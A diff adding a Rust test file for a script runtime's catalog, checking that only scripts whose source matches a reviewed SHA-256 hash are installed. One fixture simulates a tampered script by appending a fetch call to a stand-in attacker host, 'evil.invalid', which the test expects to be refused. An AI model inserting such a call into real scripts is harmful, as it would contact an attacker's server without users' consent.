@@ -0,0 +1,140 @@
+use std::io::{BufRead, BufReader, Write};
+use std::net::TcpListener;
+use std::thread;
+
+use deno_task_runtime::test_support::TestHarness;
+use serde_json::json;
+use sha2::{Digest, Sha256};
+
+const SOURCE: &str = "RuntimeExtension.returnValue(\"hello from the catalog\");";
+
+fn sha256_hex(source: &str) -> String {
+    Sha256::digest(source.as_bytes())
+        .iter()
+        .map(|byte| format!("{:02x}", byte))
+        .collect()
+}
+
+// Serves `routes` by path until the test ends, returns the index URL
+fn serve(routes: Vec<(&'static str, String)>) -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+
+    thread::spawn(move || {
+        for stream in listener.incoming() {
+            let mut stream = stream.unwrap();
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+
+            let mut request_line = String::new();
+            reader.read_line(&mut request_line).unwrap();
+            loop {
+                let mut header = String::new();
+                reader.read_line(&mut header).unwrap();
+                if header.trim().is_empty() {
+                    break;
+                }
+            }
+
+            let path = request_line.split(' ').nth(1).unwrap_or_default();
+            let response = match routes.iter().find(|(route, _)| *route == path) {
+                Some((_, body)) => format!(
+                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
+                    body.len(),
+                    body
+                ),
+                None => "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+                    .to_string(),
+            };
+            stream.write_all(response.as_bytes()).unwrap();
+        }
+    });
+
+    format!("http://127.0.0.1:{}/index.json", port)
+}
+
+fn catalog() -> String {
+    let index = json!({
+        "scripts": [
+            {
+                "name": "hello",
+                "description": "Says hello",
+                "source_url": "scripts/hello.ts",
+                "sha256": sha256_hex(SOURCE),
+            },
+            {
+                "name": "tampered",
+                "source_url": "scripts/tampered.ts",
+                "sha256": sha256_hex(SOURCE),
+            },
+        ]
+    });
+
+    serve(vec![
+        ("/index.json", index.to_string()),
+        ("/scripts/hello.ts", SOURCE.to_string()),
+        (
+            "/scripts/tampered.ts",
+            format!("{}\nfetch(\"https://evil.invalid\");", SOURCE),
+        ),
+    ])
+}
+
+#[test]
+fn installs_reviewed_catalog_scripts() {
+    let harness = TestHarness::new("catalog");
+    let runtime = harness.runtime();
+    let url = catalog();
+
+    let entries = runtime.list_catalog(&url).unwrap();
+    assert_eq!(entries.len(), 2);
+    assert_eq!(entries[0].installed_sha256(), None);
+
+    let review = runtime.review_catalog_script(&url, "hello").unwrap();
+    assert_eq!(review.source(), SOURCE);
+    assert!(runtime.list_scripts().is_empty());
+
+    // only the source that was reviewed is installed
+    assert!(runtime
+        .install_catalog_script(&url, "hello", &"0".repeat(64))
+        .is_err());
+    assert!(runtime.list_scripts().is_empty());
+
+    let sha256 = review.entry().sha256();
+    runtime
+        .install_catalog_script(&url, "hello", sha256)
+        .unwrap();
+    assert_eq!(runtime.get_script("hello").unwrap(), SOURCE);
+    assert!(!runtime.has_running_tasks());
+
+    let entries = runtime.list_catalog(&url).unwrap();
+    assert_eq!(entries[0].installed_sha256(), Some(sha256));
+
+    // edited since, it's no longer the catalog's
+    runtime.save_script("hello", "// mine").unwrap();
+    assert!(runtime
+        .install_catalog_script(&url, "hello", sha256)
+        .is_err());
+    assert_eq!(runtime.get_script("hello").unwrap(), "// mine");
+}
+
+#[test]
+fn refuses_sources_not_matching_the_catalog() {
+    let harness = TestHarness::new("catalog_tampered");
+    let runtime = harness.runtime();
+    let url = catalog();
+
+    let error = runtime.review_catalog_script(&url, "tampered").unwrap_err();
+    assert!(
+        error.contains("doesn't match the catalog's hash"),
+        "{}",
+        error
+    );
+    assert!(runtime
+        .install_catalog_script(&url, "tampered", &sha256_hex(SOURCE))
+        .is_err());
+    assert!(runtime.list_scripts().is_empty());
+
+    assert!(runtime
+        .list_catalog("http://catalog.invalid/index.json")
+        .is_err());
+}